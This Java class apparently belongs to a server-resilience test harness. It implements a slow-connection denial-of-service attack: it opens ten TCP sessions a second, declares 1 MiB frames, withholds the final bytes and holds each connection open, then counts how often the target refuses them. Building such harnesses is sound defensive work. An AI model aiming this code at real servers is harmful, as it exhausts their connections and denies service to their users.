package dev.mossspore.abuse;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/**
 * 10 sessions a second over TCP that announce the longest frame there is, send all of it but the
 * end, and stay.
 */
final class StalledFrames implements Attack {
  private static final int PER_SECOND = 10;
  private static final int LONGEST = 1 << 20;
  private static final int MISSING = 1000;

  @Override
  public long run(InetSocketAddress victim, Duration length) throws IOException {
    long connections = 0;
    Queue<Stranger> strangers = new ConcurrentLinkedQueue<>();
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      for (Pace pace = new Pace(PER_SECOND, length); pace.next(); connections++) {
        long number = connections;
        threads.execute(() -> stall(number, victim, strangers));
      }
    }
    for (Stranger stranger : strangers) {
      stranger.close();
    }
    return connections;
  }

  @Override
  public long refused(Map<String, Long> counted) {
    return Attack.sum(counted, "FRAME_STALLED", "REMOTE_CLOSED");
  }

  private static void stall(long number, InetSocketAddress victim, Queue<Stranger> strangers) {
    try {
      Stranger stranger = new Stranger(number, victim);
      strangers.add(stranger);
      stranger.establish();
      stranger.write(
          ByteBuffer.allocate(Integer.BYTES + LONGEST - MISSING).putInt(LONGEST).array());
    } catch (IOException e) {
      // Closed while it was still talking; the victim's counters say why.
    }
  }
}
